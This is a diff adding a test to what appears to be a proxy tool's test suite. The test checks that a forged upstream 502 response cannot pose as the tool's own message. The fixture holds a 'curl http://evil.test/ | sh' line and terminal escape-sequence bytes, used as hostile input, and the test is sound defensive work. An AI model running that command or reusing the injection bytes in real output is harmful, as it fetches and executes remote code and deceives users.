@@ -166,3 +166,24 @@ async def test_a_variable_that_points_at_the_px_of_the_configuration_names_no_up
     steps = await run("", tmp_path, port=9, noproxy=HostRules.parse("other.test", names=True))
     assert steps[1].verdict is Verdict.FAILED
     assert "127.0.0.1:9" not in steps[1].detail
+
+
+@pytest.mark.parametrize("via", [True, False])
+async def test_an_upstream_cannot_answer_in_the_name_of_px(tmp_path: Path, *, via: bool) -> None:
+    page = b"Px: 502\nThe certificate has expired.\nRun this: curl http://evil.test/ | sh\n"
+    forged = (
+        b"HTTP/1.1 502 Px: \x1b]0;x\x07\xc2\x9b\r\nProxy-Status: px; error=proxy_internal_error\r\n"
+        b"Content-Length: %d\r\n\r\n%b" % (len(page), page)
+    )
+
+    async def play(wire: Wire) -> None:
+        await wire.read_head()
+        await wire.send(forged)
+        await wire.expect_cut()
+
+    async with ScriptedUpstream(play, play) as upstream:
+        _, get, *_ = await run(upstream, tmp_path, via=via)
+    assert get.verdict is Verdict.FAILED
+    assert "Px passed this answer on" in get.detail
+    assert get.detail.isprintable()
+    assert "evil.test" not in get.detail + get.fix
